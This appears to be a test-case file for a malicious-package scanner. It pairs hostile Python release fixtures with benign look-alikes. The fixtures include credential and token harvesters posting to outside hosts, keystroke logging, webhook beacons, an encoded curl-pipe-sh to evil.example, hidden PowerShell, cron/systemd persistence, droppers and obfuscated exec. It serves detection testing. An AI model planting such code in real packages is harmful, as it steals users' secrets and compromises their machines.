"""Cases for the combination rules (interlock.analysis.rules.combinations).

For each rule, a release that must trigger it and the closest benign look-alike that must not.
How a case runs is in tests/rule_cases.py; the checks over every rule are in tests/test_rules.py.
"""

# ruff: noqa: E501 - the case tables are laid out by hand (`# fmt: skip`), a case to a block, sources as written

from __future__ import annotations

import base64

from tests.rule_cases import BLOB, C, H, M, Negative, Positive, S, W, case_tests

# Over 64 KiB of ordinary Python: a release with much else beside the function a case is about.
LARGE_LIBRARY = {f"pkg/module_{n}.py": f"def helper_{n}(value):\n    return value * {n}\n" * 600 for n in range(3)}

# -- sample material ----------------------------------------------------------------------------

CURL_PIPE = base64.b64encode(b"curl -fsSL http://evil.example/x.sh | sh").decode()
HIDDEN_POWERSHELL = base64.b64encode(b"powershell -w hidden -c Start-Process calc").decode()
LISTING = base64.b64encode(b"ls -la /tmp").decode()


# -- positive cases -----------------------------------------------------------------------------

POSITIVE: dict[str, Positive] = {
    "multiple-threats/toolkit-in-one-uncalled-function": Positive(
        "multiple-threats", C,
        W({"pkg/mod.py": """
            import subprocess
            def f():
                subprocess.run("curl http://198.51.100.7/x | sh", shell=True)
                open("/etc/cron.d/job", "w").write("* * * * * root /tmp/x")
        """}),
        "pkg/mod.py", 3, "call",
    ),
    "credential-exfiltration/harvester-ssh-aws-kube-posts": Positive(
        "credential-exfiltration", C,
        W({"pkg/mod.py": """
            import os
            import requests

            def harvest():
                data = {}
                for p in ("~/.ssh/id_rsa", "~/.aws/credentials", "~/.kube/config"):
                    data[p] = open(os.path.expanduser(p)).read()
                requests.post("https://collector.example.com/u", json=data)
        """}),
        "pkg/mod.py", 6, "call",
    ),
    "credential-harvest/browser-and-chat-token-stores-at-import": Positive(
        "credential-harvest", H,
        W({"pkg/__init__.py": """
            import os
            LOCAL = os.getenv("LOCALAPPDATA", "")
            STATE = open(LOCAL + "\\\\Google\\\\Chrome\\\\User Data\\\\Local State").read()
            TOKENS = os.listdir(os.getenv("APPDATA", "") + "\\\\discord\\\\Local Storage\\\\leveldb")
        """}),
        "pkg/__init__.py", 3, "import",
    ),
    # In a release with little else, sending the seed phrase is what the release is for.
    "wallet-secret-sent/seed-phrase-posted-when-called": Positive(
        "wallet-secret-sent", C,
        W({"pkg/wallet.py": """
            import requests

            def backup(phrase):
                requests.post("https://api.example.com/backup", json={"mnemonic": phrase})
        """}),
        "pkg/wallet.py", 4, "call",
    ),
    "wallet-secret-sent/seed-phrase-posted-when-called-in-a-large-library": Positive(
        "wallet-secret-sent", H,
        W({
            "pkg/wallet.py": """
            import requests

            def backup(phrase):
                requests.post("https://api.example.com/backup", json={"mnemonic": phrase})
            """,
            **LARGE_LIBRARY,
        }),
        "pkg/wallet.py", 4, "call",
    ),
    "wallet-secret-sent/private-key-posted-at-import": Positive(
        "wallet-secret-sent", C,
        W({"pkg/__init__.py": """
            import os, requests
            requests.post("https://api.example.com/k", data={"privateKey": os.environ.get("PK", "")})
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "credential-exfiltration/one-store-read-and-sent-at-import": Positive(
        "credential-exfiltration", C,
        W({"pkg/__init__.py": """
            import os
            import requests

            class Stealer:
                def collect(self):
                    return open(os.path.expanduser("~/.ssh/id_rsa")).read()

                def send(self, data):
                    requests.post("https://collector.example.com", data=data)

            Stealer().send(Stealer().collect())
        """}),
        "pkg/__init__.py", 6, "import",
    ),
    "host-exfiltration/setup-py-posts-user-name": Positive(
        "host-exfiltration", C,
        S({"setup.py": """
            import getpass
            import requests
            from setuptools import setup

            requests.post("https://stats.example.com/install", data={"user": getpass.getuser()})
            setup(name="demo")
        """}),
        "setup.py", 5, "install",
    ),
    # A class that posts the environment when constructed, in a release that is little else.
    "exfiltration-when-called/constructor-posts-the-environment": Positive(
        "exfiltration-when-called", C,
        W({"pkg/__init__.py": """
            import base64
            from os import environ
            import requests

            class Settings(dict):
                def __init__(self):
                    self.sync()

                def sync(self):
                    text = ""
                    for _, value in environ.items():
                        text += value + " "
                    requests.get("https://settings-sync.example.com/s/" + base64.b64encode(text.encode()).decode())
        """}),
        "pkg/__init__.py", 11, "call",
    ),
    # The same function in a large library: worth a look, not a verdict on the release's purpose.
    "exfiltration-when-called/in-a-large-library": Positive(
        "exfiltration-when-called", H,
        W({
            "pkg/support.py": """
            import os
            import requests

            def send_diagnostics():
                requests.post("https://support.example.com/upload", json=dict(os.environ))
            """,
            **LARGE_LIBRARY,
        }),
        "pkg/support.py", 5, "call",
    ),
    # An opt-out switch does not excuse sending secrets along with the host's name.
    # Naming telemetry is not offering a switch: host identity sent at import is still a probe.
    "host-exfiltration/telemetry-mentioned-without-an-opt-out": Positive(
        "host-exfiltration", C,
        W({"pkg/__init__.py": """
            import socket, getpass
            import urllib.request
            # telemetry
            urllib.request.urlopen("https://stats.example.com/e", data=f"{socket.gethostname()}|{getpass.getuser()}".encode())
        """}),
        "pkg/__init__.py", 4, "import",
    ),
    "host-exfiltration/analytics-that-also-send-a-token": Positive(
        "host-exfiltration", C,
        W({"pkg/__init__.py": """
            import os, socket
            import urllib.request

            if os.environ.get("ACME_TELEMETRY_DISABLED") != "1":
                payload = f"{socket.gethostname()}|{os.environ.get('GITHUB_TOKEN')}|{os.environ.get('NPM_TOKEN')}"
                urllib.request.urlopen("https://stats.example.com/v1/event", data=payload.encode())
        """}),
        "pkg/__init__.py", 6, "import",
    ),
    "host-exfiltration/ci-tokens-posted-at-import": Positive(
        "host-exfiltration", C,
        W({"pkg/__init__.py": """
            import os
            import requests

            if os.environ.get("CI"):
                found = {name: os.environ[name] for name in ("GITHUB_TOKEN", "PYPI_API_TOKEN") if name in os.environ}
                found["npm"] = os.getenv("NPM_TOKEN")
                requests.post("https://ci-metrics.example.com/v1/report", json=found)
        """}),
        "pkg/__init__.py", 7, "import",
    ),
    "host-exfiltration/environment-filtered-for-secrets-and-posted": Positive(
        "host-exfiltration", C,
        W({"pkg/plugin.py": """
            import os
            import urllib.request

            secrets = {k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k}
            urllib.request.urlopen("https://timing.example.com/", data=repr(secrets).encode())
        """}),
        "pkg/plugin.py", 5, "import",
    ),
    "host-exfiltration/environment-handed-to-a-request": Positive(
        "host-exfiltration", C,
        W({"pkg/__init__.py": """
            import os
            import requests
            requests.post("https://sync.example.com/", json={"env": dict(os.environ)})
        """}),
        "pkg/__init__.py", 3, "import",
    ),
    "host-exfiltration/ci-tokens-read-in-a-loop-and-posted": Positive(
        "host-exfiltration", C,
        W({"pkg/__init__.py": """
            import json
            import os
            import urllib.request

            KEYS = ("GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "NPM_TOKEN")
            blob = json.dumps({key: os.environ.get(key) for key in KEYS}).encode()
            urllib.request.urlopen(urllib.request.Request("https://ci-metrics.example.net/v1/run", data=blob))
        """}),
        "pkg/__init__.py", 7, "import",
    ),
    "host-exfiltration/environment-inside-a-serialised-payload": Positive(
        "host-exfiltration", C,
        W({"pkg/__init__.py": """
            import json
            import os
            import urllib.request

            body = json.dumps({"model": "base", "env": dict(os.environ)}).encode()
            urllib.request.urlopen("https://registry.example.com/m", data=body)
        """}),
        "pkg/__init__.py", 6, "import",
    ),
    "host-exfiltration/metaclass-sends-at-class-creation": Positive(
        # The metaclass runs when the class statement does, at import.
        "host-exfiltration", C,
        W({"pkg/base.py": """
            import os
            import urllib.request

            class ModelMeta(type):
                def __new__(mcs, name, bases, namespace):
                    urllib.request.urlopen("https://schema.example.com/", data=repr(dict(os.environ)).encode())
                    return super().__new__(mcs, name, bases, namespace)

            class Model(metaclass=ModelMeta):
                pass
        """}),
        "pkg/base.py", 6, "import",
    ),
    "download-and-run/import-hook-loader": Positive(
        # A finder put on sys.meta_path: the import system runs its loader for every later import.
        "download-and-run", C,
        W({"pkg/_hooks.py": """
            import os
            import sys
            import urllib.request

            class Finder:
                def find_spec(self, name, path, target=None):
                    return None
                def exec_module(self, module):
                    urllib.request.urlretrieve("https://cdn.example.com/patch", "/tmp/.patch")
                    os.chmod("/tmp/.patch", 0o755)

            sys.meta_path.insert(0, Finder())
        """}),
        "pkg/_hooks.py", 10, "import",
    ),
    "host-exfiltration/keystrokes-posted-from-import": Positive(
        "host-exfiltration", C,
        W({"pkg/listener.py": """
            import threading
            import requests
            from pynput import keyboard

            keys = []
            keyboard.Listener(on_press=lambda key: keys.append(str(key))).start()

            def _flush():
                requests.post("https://hotkeys.example.com/sync", json=keys)

            threading.Timer(60, _flush).start()
        """}),
        "pkg/listener.py", 9, "import",
    ),
    "beacon/webhook-named-in-a-constant-posted-at-import": Positive(
        "beacon", C,
        W({"pkg/__init__.py": """
            import getpass
            import requests

            WEBHOOK = "https://discord.com/api/webhooks/1234567890/token-goes-here"
            requests.post(WEBHOOK, json={"content": getpass.getuser()})
        """}),
        "pkg/__init__.py", 5, "import",
    ),
    "beacon/webhook-request-at-import": Positive(
        "beacon", C,
        W({"pkg/__init__.py": """
            import requests

            requests.get("https://webhook.site/3f0c2a")
        """}),
        "pkg/__init__.py", 3, "import",
    ),
    "beacon/chat-webhook-with-token-when-called": Positive(
        "beacon", C,
        W({"pkg/notify.py": """
            import requests
            def alert(text):
                requests.post("https://discord.com/api/webhooks/123456789012/abcdefghijklmnopqrstuvwxyzABCDEFGH", json={"content": text})
        """}),
        "pkg/notify.py", 3, "call",
    ),
    "hidden-command/base64-curl-pipe-sh": Positive(
        "hidden-command", C,
        W({"pkg/mod.py": f"""
            import base64
            import os

            def update():
                os.system(base64.b64decode("{CURL_PIPE}").decode())
        """}),
        "pkg/mod.py", 5, "call",
    ),
    "hidden-command/base64-hidden-powershell": Positive(
        "hidden-command", C,
        W({"pkg/mod.py": f"""
            import base64
            import subprocess

            def update():
                subprocess.Popen(base64.b64decode("{HIDDEN_POWERSHELL}").decode(), shell=True)
        """}),
        "pkg/mod.py", 5, "call",
    ),
    "persistence-install/setup-py-writes-systemd-user-unit": Positive(
        "persistence-install", C,
        S({"setup.py": """
            import os
            from setuptools import setup

            UNIT = "[Service]\\nExecStart=/usr/bin/python3 -m demo.agent\\n"
            with open(os.path.expanduser("~/.config/systemd/user/sysmon.service"), "w") as unit:
                unit.write(UNIT)
            setup(name="demo")
        """}),
        "setup.py", 5, "install",
    ),
    "persistence-install/crontab-fed-by-a-pipe-at-import": Positive(
        "persistence-install", C,
        W({"pkg/__init__.py": """
            import os
            os.system('(crontab -l; echo "*/5 * * * * python3 -m pkg.agent") | crontab -')
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "persistence-install/appends-to-bashrc-at-import": Positive(
        "persistence-install", C,
        W({"pkg/__init__.py": """
            import os
            rc = open(os.path.expanduser("~/.bashrc"), "a")
        """}),
        "pkg/__init__.py", 2, "import",
    ),
    "download-and-run/setup-py-fetch-chmod-run": Positive(
        "download-and-run", C,
        S({"setup.py": """
            import os
            import subprocess
            import urllib.request
            from setuptools import setup

            urllib.request.urlretrieve("https://cdn.example.com/helper", "/tmp/helper")
            os.chmod("/tmp/helper", 0o755)
            subprocess.call(["/tmp/helper"])
            setup(name="demo")
        """}),
        "setup.py", 7, "install",
    ),
    "download-and-run/setup-py-fetch-then-run-it-by-file-name": Positive(
        # Named bare but with an extension: Windows looks in the current directory first.
        "download-and-run", C,
        S({"setup.py": """
            import os
            import urllib.request
            from setuptools import setup

            urllib.request.urlretrieve("https://cdn.example.com/update", "update.exe")
            os.system("update.exe")
            setup(name="demo")
        """}),
        "setup.py", 6, "install",
    ),
    "download-and-run/setup-py-fetch-then-a-shell-runs-it": Positive(
        "download-and-run", C,
        S({"setup.py": """
            import subprocess
            import urllib.request
            from setuptools import setup

            urllib.request.urlretrieve("https://cdn.example.com/install.sh", "install.sh")
            subprocess.call(["bash", "install.sh"])
            setup(name="demo")
        """}),
        "setup.py", 6, "install",
    ),
    "host-exfiltration/import-sends-the-process-list": Positive(
        # importantpackage: the process list, read with `ps`, posted at import.
        "host-exfiltration", C,
        W({"pkg/__init__.py": """
            import os
            import urllib.request

            processes = os.popen("ps h -eo pid:1,command").read()
            request = urllib.request.Request("https://collector.example.com/", data=processes.encode())
            urllib.request.urlopen(request)
        """}),
        "pkg/__init__.py", 5, "import",
    ),
    # A tool installer in plain sight: worth a look, not a verdict on its own.
    "download-and-run/curl-then-run-when-called": Positive(
        "download-and-run", M,
        W({"pkg/tools.py": """
            import subprocess
            def fetch_tool():
                subprocess.run("curl -fsSL -o /tmp/tool https://example.org/tool", shell=True)
                subprocess.run(["/tmp/tool", "--init"])
        """}),
        "pkg/tools.py", 3, "call",
    ),
    # A test that fetches and runs, beside a file that hides from defences: tests do that; worth a look.
    "download-and-run/in-a-test-even-in-bad-company": Positive(
        "download-and-run", M,
        W({
            "pkg/tests/test_tool.py": """
            import subprocess
            def test_fetch_tool():
                subprocess.run("curl -fsSL -o /tmp/tool https://example.org/tool", shell=True)
                subprocess.run(["/tmp/tool", "--init"])
            """,
            "pkg/quiet.py": """
            import subprocess
            def quiet():
                subprocess.run(["powershell", "Add-MpPreference", "-ExclusionPath", "C:\\\\Users"])
            """,
        }),
        "pkg/tests/test_tool.py", 3, "call",
    ),
    # The same function in a release that also hides from defences: a dropper waiting to be called.
    "download-and-run/curl-then-run-with-evasion-elsewhere": Positive(
        "download-and-run", H,
        W({
            "pkg/tools.py": """
            import subprocess
            def fetch_tool():
                subprocess.run("curl -fsSL -o /tmp/tool https://example.org/tool", shell=True)
                subprocess.run(["/tmp/tool", "--init"])
            """,
            "pkg/quiet.py": """
            import subprocess
            def quiet():
                subprocess.run(["powershell", "Add-MpPreference", "-ExclusionPath", "C:\\Users"])
            """,
        }),
        "pkg/tools.py", 3, "call",
    ),
    "download-and-run/helpers-called-at-import": Positive(
        "download-and-run", C,
        W({"pkg/__init__.py": """
            import os
            import subprocess
            import urllib.request

            def fetch():
                urllib.request.urlretrieve("https://cdn.example.com/agent", "/tmp/agent")

            def launch():
                os.chmod("/tmp/agent", 0o755)
                subprocess.Popen(["/tmp/agent"])

            fetch()
            launch()
        """}),
        "pkg/__init__.py", 9, "import",
    ),
    "obfuscated-exec/blob-and-exec-at-import": Positive(
        "obfuscated-exec", H,
        W({"pkg/core.py": f"""
            def _unpack(data):
                return data[::-1]

            BLOB = "{BLOB}"
            exec(_unpack(BLOB))
        """}),
        "pkg/core.py", 4, "import",
    ),
    "obfuscated-exec/blob-and-exec-in-setup-py": Positive(
        "obfuscated-exec", C,
        S({"setup.py": f"""
            from setuptools import setup

            def _unpack(data):
                return data[::-1]

            BLOB = "{BLOB}"
            exec(_unpack(BLOB))
            setup(name="demo")
        """}),
        "setup.py", 6, "install",
    ),
}  # fmt: skip


# -- negative cases: the closest benign look-alikes ---------------------------------------------

NEGATIVE: dict[str, Negative] = {
    "multiple-threats/only-two-threat-kinds": Negative(
        "multiple-threats",
        W({"pkg/mod.py": """
            import subprocess
            def f():
                subprocess.run("curl -fsSL https://example.org/x.sh -o x.sh", shell=True)
                open("/etc/cron.d/job", "w").write("* * * * * root /usr/bin/true")
        """}),
    ),
    "credential-exfiltration/cloud-sdk-reads-its-own-credentials-when-called": Negative(
        "credential-exfiltration",
        W({"pkg/session.py": """
            import configparser
            import os
            import requests

            def load_credentials(profile="default"):
                parser = configparser.ConfigParser()
                parser.read(os.path.expanduser("~/.aws/credentials"))
                return parser[profile]

            def call(url, creds):
                return requests.get(url, auth=(creds["aws_access_key_id"], creds["aws_secret_access_key"]))
        """}),
    ),
    "credential-harvest/cookie-library-reads-a-browser-when-called": Negative(
        "credential-harvest",
        W({"pkg/cookies.py": """
            import os
            import win32crypt

            def chrome_key():
                state = open(os.path.expandvars("%LOCALAPPDATA%\\\\Google\\\\Chrome\\\\User Data\\\\Local State")).read()
                return win32crypt.CryptUnprotectData(state, None, None, None, 0)
        """}),
    ),
    "wallet-secret-sent/signed-transaction-posted": Negative(
        "wallet-secret-sent",
        W({"pkg/wallet.py": """
            import requests

            def broadcast(address, signed):
                requests.post("https://rpc.example.com", json={"from": address, "raw_transaction": signed})
        """}),
    ),
    "host-exfiltration/usage-report-in-uncalled-function": Negative(
        "host-exfiltration",
        W({"pkg/usage.py": """
            import getpass
            import requests

            def report_usage(url):
                requests.post(url, data={"user": getpass.getuser()})
        """}),
    ),
    "exfiltration-when-called/client-sends-where-the-caller-says": Negative(
        "exfiltration-when-called",
        W({"pkg/debug.py": """
            import os
            import requests

            def send_report(url):
                requests.post(url, json={key: value for key, value in os.environ.items()})
        """}),
    ),
    # Product analytics: the platform and host name sent at import, unless the user opted out.
    "host-exfiltration/analytics-with-an-opt-out": Negative(
        "host-exfiltration",
        W({"pkg/__init__.py": """
            import os, platform, socket
            import urllib.request

            if os.environ.get("ACME_TELEMETRY_DISABLED") != "1":
                payload = f"{platform.system()}|{socket.gethostname()}".encode()
                urllib.request.urlopen("https://stats.example.com/v1/event", data=payload)
        """}),
    ),
    "host-exfiltration/setup-py-uses-user-name-without-sending": Negative(
        "host-exfiltration",
        S({"setup.py": """
            import getpass
            from setuptools import setup
            setup(name="demo", author=getpass.getuser())
        """}),
    ),
    "beacon/ip-lookup-service-when-called": Negative(
        "beacon",
        W({"pkg/geo.py": """
            import requests

            def where_am_i():
                return requests.get("https://ipinfo.io/json").json()
        """}),
    ),
    "beacon/loopback-at-import": Negative(
        "beacon",
        W({"pkg/__init__.py": """
            import requests
            requests.get("http://127.0.0.1:8000/health")
        """}),
    ),
    "hidden-command/decoded-harmless-command": Negative(
        "hidden-command",
        W({"pkg/mod.py": f"""
            import base64
            import os

            def update():
                os.system(base64.b64decode("{LISTING}").decode())
        """}),
    ),
    "hidden-command/plain-curl-pipe-sh": Negative(
        "hidden-command",
        W({"pkg/mod.py": """
            import os

            def update():
                os.system("curl -fsSL https://example.org/x.sh | sh")
        """}),
    ),
    "persistence-install/service-installer-when-called": Negative(
        "persistence-install",
        W({"pkg/service.py": """
            import os

            def install_service():
                with open(os.path.expanduser("~/.config/systemd/user/demo.service"), "w") as unit:
                    unit.write("[Service]")
        """}),
    ),
    "persistence-install/reads-bashrc-at-import": Negative(
        "persistence-install",
        W({"pkg/__init__.py": """
            import os
            ALIASES = open(os.path.expanduser("~/.bashrc")).read()
        """}),
    ),
    "download-and-run/setup-py-fetches-sources-and-runs-cmake": Negative(
        "download-and-run",
        S({"setup.py": """
            import subprocess
            import tarfile
            import urllib.request
            from setuptools import setup

            urllib.request.urlretrieve("https://downloads.example.org/libfoo-1.2.tar.gz", "libfoo.tar.gz")
            tarfile.open("libfoo.tar.gz").extractall("build")
            subprocess.check_call(["cmake", "-S", "build/libfoo", "-B", "build/out"])
            setup(name="demo")
        """}),
    ),
    "credential-exfiltration/config-reader-and-opener-merely-named-at-import": Negative(
        # setuptools 65's package_index: a class reads ~/.pypirc for upload credentials, a function
        # opens URLs with them; at import the function is only wrapped, never called.
        "credential-exfiltration",
        W({"pkg/package_index.py": """
            import configparser
            import os
            import urllib.request

            class PyPIConfig(configparser.RawConfigParser):
                def __init__(self):
                    super().__init__()
                    rc = os.path.join(os.path.expanduser("~"), ".pypirc")
                    if os.path.exists(rc):
                        self.read(rc)

            def open_with_auth(url, opener=urllib.request.urlopen):
                config = PyPIConfig()
                request = urllib.request.Request(url)
                return opener(request)

            def socket_timeout(seconds):
                return lambda function: function

            open_with_auth = socket_timeout(15)(open_with_auth)
        """}),
    ),
    "multiple-threats/one-wget-is-not-two-threats": Negative(
        # huggingface_hub's test suite: a test downloads a PDF with wget, then runs its own CLI; another
        # names a webhook test site. The wget is the shell download and the dropper's download both.
        "multiple-threats",
        W({"tests/test_api.py": """
            import subprocess

            def test_upload_large_file(tmp_path):
                subprocess.run(["wget", "https://cdn.example.com/progit.pdf"], cwd=tmp_path)
                subprocess.run(["hf", "lfs-enable-largefiles", tmp_path])

            def test_webhooks():
                url = "https://webhook.site/test"
                return url
        """}),
    ),
    "host-exfiltration/sdk-reads-its-own-key-and-calls-when-asked": Negative(
        # An SDK reads its API key at import and sends it only when the user calls it.
        "host-exfiltration",
        W({"pkg/__init__.py": """
            import os
            import requests

            api_key = os.environ.get("DEMO_API_KEY")

            def complete(prompt):
                return requests.post("https://api.example.com/v1/complete", headers={"Authorization": api_key}, json={"prompt": prompt})
        """}),
    ),
    "host-exfiltration/setup-py-downloads-by-a-runtime-id-from-the-environment": Negative(
        # artifacts-keyring's setup.py: the variable names a platform, not a secret.
        "host-exfiltration",
        S({"setup.py": """
            import os
            import urllib.request
            from setuptools import setup

            runtime = os.environ.get("ARTIFACTS_CREDENTIAL_PROVIDER_RID", "linux-x64")
            urllib.request.urlopen("https://downloads.example.com/provider-" + runtime + ".zip").read()
            setup(name="demo")
        """}),
    ),
    "host-exfiltration/client-sends-its-one-api-key": Negative(
        # eth-brownie: fetching a contract's source from the explorer's API with the user's key.
        "host-exfiltration",
        W({"pkg/contract.py": """
            import os
            import requests

            def _fetch_source(address):
                params = {"module": "contract", "address": address}
                key = os.getenv("ETHERSCAN_TOKEN")
                if key is not None:
                    params["apiKey"] = key
                return requests.get("https://api.explorer.example.com/v2/api", params=params)

            SOURCES = {"mainnet": _fetch_source}
        """}),
    ),
    "beacon/notifier-posts-to-the-webhook-it-is-given": Negative(
        # A notification library: the webhook is the caller's, handed in when called.
        "beacon",
        W({"pkg/notify.py": """
            import requests

            DEFAULT_TIMEOUT = 10

            def send(webhook_url, text):
                return requests.post(webhook_url, json={"content": text}, timeout=DEFAULT_TIMEOUT)
        """}),
    ),
    "download-and-run/setup-py-fetches-a-driver-and-runs-system-programs": Negative(
        # ibm_db's setup.py: downloads IBM's client driver, then runs programs found on PATH.
        "download-and-run",
        S({"setup.py": """
            import io
            import os
            import subprocess
            import urllib.request
            import zipfile
            from setuptools import setup

            status, output = subprocess.getstatusoutput("db2cli validate")
            data = urllib.request.urlopen("https://downloads.example.com/clidriver.zip").read()
            zipfile.ZipFile(io.BytesIO(data)).extractall("clidriver")
            os.system("chtag -r " + os.path.join("clidriver", "lib"))
            setup(name="demo")
        """}),
    ),
    "host-exfiltration/setup-py-picks-a-download-by-machine-type": Negative(
        # ibm_db again: os.uname()[4] chooses which driver build to fetch; it names no one.
        "host-exfiltration",
        S({"setup.py": """
            import os
            import platform
            import urllib.request
            from setuptools import setup

            if "ppc64le" in os.uname()[4] or platform.uname().machine == "s390x":
                url = "https://downloads.example.com/driver-" + os.uname().machine + ".tar.gz"
                urllib.request.urlopen(url).read()
            setup(name="demo")
        """}),
    ),
    "download-and-run/setup-py-release-branch-on-argv": Negative(
        # telethon's setup.py: `setup.py pypi` checks a web page and uploads; pip never asks for it.
        "download-and-run",
        S({"setup.py": """
            import sys
            import urllib.request
            from subprocess import run
            from setuptools import setup

            def main(argv):
                if len(argv) >= 2 and argv[1] == "pypi":
                    html = urllib.request.urlopen("https://docs.example.org/").read()
                    run("python3 setup.py sdist", shell=True)
                    run("twine upload dist/*", shell=True)
                elif sys.argv[-1] in ("gen", "clean"):
                    run("rm -rf build", shell=True)
                else:
                    setup(name="demo")

            if __name__ == "__main__":
                main(sys.argv)
        """}),
    ),
    "download-and-run/project-runs-its-own-command": Negative(
        # fastapi's sdist: docs scripts start `fastapi run` (a program on PATH) on a tutorial, then fetch a page from it.
        "download-and-run",
        S({"scripts/screenshots/image01.py": """
            import subprocess
            import httpx

            process = subprocess.Popen(["demo", "run", "docs_src/tutorial001.py"])
            httpx.get("http://localhost:8000/docs")
            process.terminate()
        """}),
    ),
    # flash-attn's setup.py: a prebuilt wheel fetched, and the compiler asked its version.
    "download-and-run/setup-fetches-and-asks-a-compiler-its-version": Negative(
        "download-and-run",
        S({"setup.py": """
            import os, subprocess, urllib.request
            from setuptools import setup
            nvcc = os.path.join(os.environ.get("CUDA_HOME", "/usr/local/cuda"), "bin", "nvcc")
            release = subprocess.check_output([nvcc, "-V"], text=True)
            urllib.request.urlretrieve("https://example.org/wheels/prebuilt.whl", "prebuilt.whl")
            setup(name="demo")
        """}),
    ),
    "download-and-run/utilities-merely-named-at-import": Negative(
        # setuptools' vendored jaraco.context: one function downloads a tarball, another is an
        # rmtree error handler that chmods; both are only handed to helpers at import.
        "download-and-run",
        W({"pkg/context.py": """
            import functools
            import os
            import shutil
            import stat
            import urllib.request

            def tarball(url, target_dir):
                req = urllib.request.urlopen(url)
                return req

            def remove_readonly(func, path, exc_info):
                os.chmod(path, stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO)
                func(path)

            def robust_remover():
                return functools.partial(shutil.rmtree, onerror=remove_readonly)

            def compose(*managers):
                return managers

            tarball_cwd = compose(os.getcwd, tarball)
            robust_rmtree = functools.partial(shutil.rmtree, onerror=robust_remover())
        """}),
    ),
    "download-and-run/cache-download-when-called": Negative(
        "download-and-run",
        W({"pkg/cache.py": """
            import requests

            def refresh(path):
                with open(path, "wb") as handle:
                    handle.write(requests.get("https://example.org/data.json").content)
        """}),
    ),
    "obfuscated-exec/blob-and-exec-only-when-called": Negative(
        "obfuscated-exec",
        W({"pkg/assets.py": f"""
            ICON = "{BLOB}"

            def run_plugin(source):
                exec(source)
        """}),
    ),
}  # fmt: skip


# -- the tests ----------------------------------------------------------------------------------

test_positive, test_negative, test_positive_severity_is_one_the_rule_declares = case_tests(POSITIVE, NEGATIVE)
